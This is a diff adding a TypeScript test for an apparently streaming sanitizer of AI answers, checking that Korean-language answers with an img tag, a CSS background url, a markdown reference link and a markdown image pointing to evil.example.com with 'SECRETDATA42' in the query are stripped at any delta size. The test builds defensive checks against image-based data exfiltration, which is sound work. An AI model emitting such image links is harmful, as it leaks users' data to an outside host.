@@ -110,3 +110,21 @@ test('an answer one address long without a space is released in bounded pieces, 
   assert.ok(longest <= 64 * 16 + 64, `the guard held at most ~16 windows (${longest} characters)`);
   assert.ok(runs < answer.length / 4, `${runs} links runs for ${answer.length} one-character deltas`);
 });
+
+test('markup longer than the window is not cut inside: an image tag, a style, a reference definition, at any delta size', async () => {
+  const answers = [
+    `다음 그림을 보세요 <img alt="${'가나 '.repeat(20)}" src="//evil.example.com/p.png?d=SECRETDATA42"> 끝.`,
+    `<div style="color: red; ${'이; 그림은; '.repeat(18)} background: url(//evil.example.com/p.png?d=SECRETDATA42)">내용</div>`,
+    '참고\n[r1]: //evil.example.com/p.png?d=SECRETDATA42\n\n![x][r1] 끝',
+    `![${'설명 '.repeat(40)}](https://evil.example.com/p.png?d=SECRETDATA42) 끝`,
+  ];
+  for (const answer of answers) {
+    for (const size of [1, 3, 7, 16]) {
+      const deltas: string[] = [];
+      for (let at = 0; at < answer.length; at += size) deltas.push(answer.slice(at, at + size));
+      const shown = textOf(await stream(deltas, 'internal'));
+      assert.doesNotMatch(shown, /evil\.example\.com\/p\.png|SECRETDATA42/, `${size}: ${shown}`);
+      assert.match(shown, /\[이미지 제거됨: evil\.example\.com\]/, `${size}: ${shown}`);
+    }
+  }
+});
